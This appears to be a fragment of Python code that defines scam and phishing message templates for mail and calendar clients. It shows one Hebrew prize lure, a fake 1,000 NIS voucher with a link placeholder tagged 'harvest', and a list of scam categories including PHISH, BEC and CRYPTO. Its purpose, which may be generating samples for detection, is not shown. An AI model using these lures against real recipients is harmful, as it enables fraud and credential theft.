         clients=["google", "exchange", "icloud", "yahoo"], vars=lambda c, V: {"url": c.short()},
         summary="הגרלה: זכית בשובר של 1,000 ₪", body="מזל טוב! לקבלת השובר היכנסו לקישור: {url}",
         att=("harvest", (190, 240), ["he", "en", "ru"])),
])

CATEGORIES = [RETAIL, PRIZE, CRYPTO, DATING, FEE, PHISH, CALLBACK, UPDATE, BEC, ADVANCE, TASK, DOCSHARE, NAG, MASS]
